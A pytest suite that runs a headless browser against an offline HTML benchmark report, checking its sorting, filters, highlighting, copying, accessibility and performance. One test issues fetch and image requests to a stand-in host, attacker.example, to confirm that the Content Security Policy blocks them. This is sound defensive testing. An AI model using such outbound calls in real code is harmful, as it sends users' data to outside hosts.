"""The page in a real browser without a network: it sorts, filters, links, copies and says where numbers come from."""

import re
import time
from collections.abc import Iterator
from math import log
from pathlib import Path

import pytest

from attnbench.reports import report, sheets
from attnbench.reports.page.part import Part
from tests import made_page
from tests.chromium import Browser, browser
from tests.made_scores import planted

pytestmark = pytest.mark.xdist_group("browser")


@pytest.fixture(scope="module")
def opened() -> Iterator[Browser]:
    found = browser()
    yield found
    found.driver.quit()


@pytest.fixture(scope="module")
def part() -> Part:
    return made_page.failing_part()


@pytest.fixture(scope="module")
def file(tmp_path_factory: pytest.TempPathFactory, part: Part) -> Path:
    over = made_page.part_of(made_page.over_tokens(), sweep="made up over tokens")
    folder = tmp_path_factory.mktemp("page")
    made_page.written(folder / "both", part, over)
    return made_page.written(folder, part)


@pytest.fixture
def page(opened: Browser, file: Path) -> Browser:
    return opened.open(file)


def table(page: Browser, title: str) -> str:
    """A selector of the sheet with this title."""
    titles = [one.text for one in page.all(".sheet summary h3")]
    return f"section[data-nav=Tables] details:nth-of-type({titles.index(title) + 1})"


def first_fields(page: Browser, sheet: str) -> list[str]:
    return [one.text for one in page.all(f"{sheet} tbody th")]


def test_nothing_is_asked_for_but_the_file_and_nothing_is_complained_of(page: Browser, file: Path):
    page.click(".chip")
    page.click(".sheet thead button")
    time.sleep(0.2)
    assert page.requests() == [file.as_uri()]
    assert page.complaints() == []


def test_the_policy_stops_what_would_go_out(page: Browser):
    for way in ("fetch('http://attacker.example/')", "(new Image()).src = 'http://attacker.example/x.png'"):
        page.js(f"{way}; return 0")
    time.sleep(0.3)
    refused = page.complaints()
    assert sum("Content Security Policy" in one for one in refused) >= 2, refused


def test_a_click_on_a_head_sorts_by_number_and_again_the_other_way(page: Browser, part: Part):
    sheet = table(page, "darcy: error")
    means = {line.variant: line.error.mean for line in part.known[0].lines if line.values}
    ascending = sorted(means, key=lambda name: means[name])
    page.click(f"{sheet} thead th:nth-child(3) button")
    assert page.one(f"{sheet} thead th:nth-child(3)").get_attribute("aria-sort") == "ascending"
    rounded = [f"{means[name]:.2f}" for name in first_fields(page, sheet)[: len(means)]]
    assert rounded == [f"{means[name]:.2f}" for name in ascending]
    page.click(f"{sheet} thead th:nth-child(3) button")
    assert page.one(f"{sheet} thead th:nth-child(3)").get_attribute("aria-sort") == "descending"
    assert first_fields(page, sheet)[0] == "identity"
    assert first_fields(page, sheet)[-1] == "linear"  # that has no number stays last
    page.click(f"{sheet} thead th:nth-child(3) button")
    assert first_fields(page, sheet) == [line.variant for line in part.known[0].lines]


def test_a_head_answers_to_the_keyboard(page: Browser):
    from selenium.webdriver.common.keys import Keys

    sheet = table(page, "darcy: error")
    page.one(f"{sheet} thead th:first-child button").send_keys(Keys.ENTER)
    found = first_fields(page, sheet)
    assert found == sorted(found)


def test_a_filter_keeps_the_rows_that_have_all_its_words(page: Browser, part: Part):
    sheet = table(page, "darcy: error")
    page.one(f"{sheet} input").send_keys("mano LEVELS=4")
    wanted = {line.variant for line in part.known[0].lines if "levels=4" in line.variant}
    assert set(first_fields(page, sheet)) == wanted
    assert page.one(f"{sheet} .found").text == f"{len(wanted)} of 35 rows"


def test_a_picked_mechanism_is_highlighted_in_every_figure_and_table(page: Browser):
    page.click(".legend .chip[data-group=mano]")
    faint = "return [...document.querySelectorAll(arguments[0])].map((one) => Number(getComputedStyle(one).opacity))"
    time.sleep(0.4)
    plots = page.all(".plot")
    assert len(plots) >= 6
    for i, _ in enumerate(plots):
        inside = f"document.querySelectorAll('.plot')[{i}].querySelectorAll"
        kept = page.js(f"return [...{inside}('[data-group=mano]')].map((one) => getComputedStyle(one).opacity)")
        others = page.js(
            f"return [...{inside}('[data-group]:not([data-group=mano])')].map((one) => getComputedStyle(one).opacity)"
        )
        assert set(kept) == {"1"}, i
        assert others, i
        assert max(map(float, others)) < 0.2, i
    assert set(page.js(faint, "tbody tr[data-group=mano] td")) == {1}
    assert set(page.js(faint, "tbody tr[data-group=full] td")) == {0.38}
    page.click(".clear")
    time.sleep(0.4)
    assert set(page.js(faint, ".plot [data-group], tbody td")) == {1}


@pytest.mark.parametrize("where", [".strip .name", ".sheet tbody .mark"])
def test_a_mechanism_is_picked_in_a_figure_and_in_a_table_too(page: Browser, where: str):
    page.js("document.querySelector(arguments[0]).scrollIntoView({block: 'center', behavior: 'instant'})", where)
    page.one(where).click()
    assert len(page.all(".legend .chip.picked")) == 1
    assert len(page.all(".strip.picked")) >= 1


def test_only_the_picked_ones_remain_where_that_is_asked(page: Browser):
    page.click(".legend .chip[data-group=swin]")
    page.click(".only")
    sheet = table(page, "darcy: error")
    assert {name.split()[0] for name in first_fields(page, sheet)} == {"swin"}
    assert {one.get_attribute("data-group") for one in page.all(".strip")} == {"swin"}


def test_a_hint_says_what_the_table_says(page: Browser, part: Part):
    text = "\n".join(map(page.hint, page.all(".scatter .point[data-group=full] .marker")))
    line = next(line for line in part.known[0].lines if line.variant == "full")
    assert text.startswith("full\n")
    assert sheets.around(line.error) in text
    assert sheets.quartiles(line.costs["cost.train_samples_per_s"]) in text


def test_a_click_on_a_seed_opens_that_cell(page: Browser, part: Part):
    from attnbench.reports.rows import records

    seed = page.all(".strip[data-group=full] .seed")[1]
    page.hover(seed)
    seed.click()
    text = page.one("#detail").text
    row = next(row for row in records(part.frame) if row["variant"] == "full" and row["seed"] == 1)
    for wanted in (row["id"], row["code.commit"], row["code.fingerprint"], row["data.hash"], "made up", "61.5"):
        assert str(wanted) in text
    assert page.js("return document.querySelector('.siblings [aria-pressed=true]').textContent") == "seed 1"
    page.click(".siblings button:last-child")
    assert row["cost_id"] in page.one("#detail").text
    page.click("#detail .close")
    assert not page.one("#detail").is_displayed()


def test_a_figure_is_walked_through_by_keyboard(page: Browser):
    from selenium.webdriver.common.keys import Keys

    plot = page.one(".scatter .plot")
    page.js("arguments[0].focus()", plot)
    plot.send_keys(Keys.ARROW_RIGHT)
    first = page.one("#hint strong").text
    plot.send_keys(Keys.ARROW_RIGHT)
    assert page.one("#hint strong").text != first
    wanted = page.one("#hint strong").text
    plot.send_keys(Keys.ENTER)
    assert page.one("#detail-title").text == wanted


def test_latex_is_copied_as_the_report_has_it(page: Browser, part: Part):
    page.allow_copying(allowed=True)
    sheet = table(page, "darcy: cost")
    page.one(f"{sheet} input").send_keys("mano")  # what is filtered is still copied whole
    page.click(f"{sheet} .copy")
    time.sleep(0.2)
    assert page.copied() == sheets.latex(part.pages[1], "tab:made-2")


def test_csv_is_copied_as_it_is_shown(page: Browser):
    page.allow_copying(allowed=True)
    sheet = table(page, "darcy: error")
    page.one(f"{sheet} input").send_keys("swin")
    page.click(f"{sheet} .copy:last-child")
    time.sleep(0.2)
    lines = page.copied().splitlines()
    assert lines[0].startswith("variant,seeds,")
    assert [line.partition(",")[0] for line in lines[1:]] == first_fields(page, sheet)


def test_a_name_with_marks_of_markdown_is_shown_found_and_copied_as_typed(opened: Browser, tmp_path: Path):
    given = ["**two**", "`tick` *one*", "~ $x$", "full"]
    store, manifest = planted({"darcy": {name: [0.1, 0.11 + i / 9, 0.12 + i / 9] for i, name in enumerate(given)}})
    report.write_report(store, manifest, tmp_path)
    page = opened.open(tmp_path / "report.html")
    page.allow_copying(allowed=True)
    sheet = table(page, "darcy: error")
    assert sorted(first_fields(page, sheet)) == sorted(given)
    page.one(f"{sheet} input").send_keys("**t")
    assert first_fields(page, sheet) == ["**two**"]
    page.click(f"{sheet} .copy:last-child")
    time.sleep(0.2)
    assert page.copied().splitlines()[1].startswith("**two**,3 / 3,")
    cells = page.js("return [...document.querySelectorAll('table')].at(-1).textContent")
    assert "**two**" in cells


def test_where_copying_is_forbidden_the_text_stands_selected(page: Browser, part: Part):
    page.allow_copying(allowed=False)
    page.click(f"{table(page, 'darcy: error')} .copy")
    time.sleep(0.2)
    assert page.one(".by-hand").get_attribute("value") == sheets.latex(part.pages[0], "tab:made-1")
    page.allow_copying(allowed=True)


def test_what_failed_stands_with_its_reason_and_hostile_text_is_text(page: Browser):
    section = page.one("section[data-nav=Failures]")
    words = section.text
    assert all(status in words for status in ("oom", "timeout", "diverged", "failed"))
    assert made_page.HOSTILE in words
    row = next(one for one in page.all("section[data-nav=Failures] tbody tr") if "failed" in one.text)
    button = row.find_element("css selector", ".link")
    page.js("arguments[0].scrollIntoView({block: 'center', behavior: 'instant'})", button)
    button.click()
    assert page.one(".traceback").text == made_page.TRACEBACK
    assert "attempts 2" in page.one("#detail").text
    assert page.all("img, b:not(.tile b)") == []
    assert page.complaints() == []


def test_costs_over_tokens_and_the_atlas_are_drawn_where_there_are_rows(opened: Browser, file: Path):
    opened.open(file)
    assert not opened.all("section[data-nav='Cost over tokens']")
    opened.open(file.parent / "both" / "report.html")
    figures = opened.all("section[data-nav='Cost over tokens'] .plot-card h4")
    assert {one.text for one in figures} == {"time of a step", "peak memory", "share of the roofline's limit"}
    cross = opened.one("section[data-nav='Cost over tokens'] .series[data-group=full] .lost")
    assert "out of memory" in opened.hint(cross)
    line = opened.one("section[data-nav='Cost over tokens'] .series[data-group=linear] .line")
    assert line.get_attribute("d").count("L") == 3  # through each number of tokens once, of two processes each
    crossing = opened.one("section[data-nav='Cost over tokens'] .crossing[data-group=linear] circle")
    below = 256 * 4 ** (log(0.74 / 0.356) / (log(0.74 / 0.356) + log(4.196 / 2.66)))  # of straight lines; truly 640
    told = re.search(r"below full attention from (\d+) tokens on", opened.hint(crossing))
    assert told
    assert float(told[1]) == pytest.approx(below, abs=1)
    notes = [one.text for one in opened.all("section[data-nav='Distance from full attention'] figcaption")]
    assert "Not drawn, for it is zero but for rounding: full." in notes[0]
    ticks = opened.all("section[data-nav='Distance from full attention'] .tick")
    assert max(len(one.text) for one in ticks) < 9
    titles = [one.text for one in opened.all("section[data-nav='Distance from full attention'] h4")]
    assert {"error of outputs, input random", "error of outputs, input smooth"} <= set(titles)


def test_no_width_lets_the_page_scroll_sideways(opened: Browser, file: Path):
    for width in (360, 400, 760, 1400):
        opened.open(file, width=width)
        assert opened.js("return document.documentElement.scrollWidth <= window.innerWidth"), width


def test_ten_thousand_rows_open_and_sort_within_seconds(opened: Browser, tmp_path: Path):
    rows = made_page.ten_thousand()
    large = made_page.written(tmp_path, made_page.part_of(rows))
    assert len(rows) >= 10_000
    assert large.stat().st_size < 10e6
    begun = time.perf_counter()
    opened.open(large)
    assert time.perf_counter() - begun < 10
    section = "section[data-nav=Cells]"
    assert opened.one(f"{section} .found").text == f"{len(rows):,} rows"
    assert len(opened.all(f"{section} tbody tr")) == 50
    heads = [one.text for one in opened.all(f"{section} thead th")]
    column = heads.index("relative L2 error, test") + 1
    begun = time.perf_counter()
    opened.click(f"{section} thead th:nth-child({column}) button")
    shown = [float(one.text) for one in opened.all(f"{section} tbody td:nth-child({column})")]
    assert time.perf_counter() - begun < 5
    least = sorted(row["result.rel_l2"] for row in rows if row["kind"] == "train")[:50]
    assert shown == pytest.approx(least, rel=1e-5)
    assert opened.complaints() == []
